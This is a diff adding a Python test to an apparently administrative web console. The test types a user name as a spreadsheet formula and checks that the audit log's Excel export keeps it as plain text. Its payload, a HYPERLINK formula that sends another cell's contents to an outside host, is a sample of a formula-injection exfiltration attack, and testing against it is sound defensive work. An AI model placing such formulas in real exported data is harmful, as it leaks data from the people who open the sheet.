@@ -264,3 +264,20 @@ def test_an_admin_of_another_district_sees_none_of_our_imports(console, world):
     assert theirs.get(f"/console/imports/{run_id}").status_code == 404
     # a street admin of our district still sees it (the import's scope is ours, the district)
     assert ours.get(f"/console/imports/{run_id}").status_code == 200
+
+
+def test_a_name_typed_as_a_formula_is_text_in_the_audit_export(console, world, client, login):
+    from io import BytesIO
+
+    from openpyxl import load_workbook
+    formula = '=HYPERLINK("http://x.cn/?"&C3,"查看")'
+    resp = client.patch("/api/v1/me", json={"name": formula}, headers=login("street_secretary"))
+    assert resp.status_code == 200
+    street_admin = console("street_secretary")  # an audited act: the scan's confirmation
+    street_admin.get("/console/")
+    sheet = console("admin").client.get("/console/audit.xlsx")
+    assert sheet.status_code == 200
+    cells = [c for row in load_workbook(BytesIO(sheet.data)).active.iter_rows() for c in row]
+    named = [c for c in cells if c.value == formula]
+    assert named and all(c.data_type == "s" for c in named)
+    assert not [c for c in cells if c.data_type == "f"]
